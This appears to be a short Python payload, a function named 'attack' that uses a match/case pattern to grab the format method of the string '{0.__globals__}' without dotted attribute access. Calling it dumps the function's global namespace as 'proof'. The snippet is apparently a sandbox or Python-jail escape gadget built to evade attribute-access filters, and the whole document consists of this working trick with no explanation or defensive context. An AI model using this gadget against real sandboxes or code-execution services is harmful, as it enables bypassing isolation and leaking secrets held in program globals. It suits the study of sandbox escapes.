def attack():
    match "{0.__globals__}":
        case str(format=f):
            return {"proof": f(attack)}
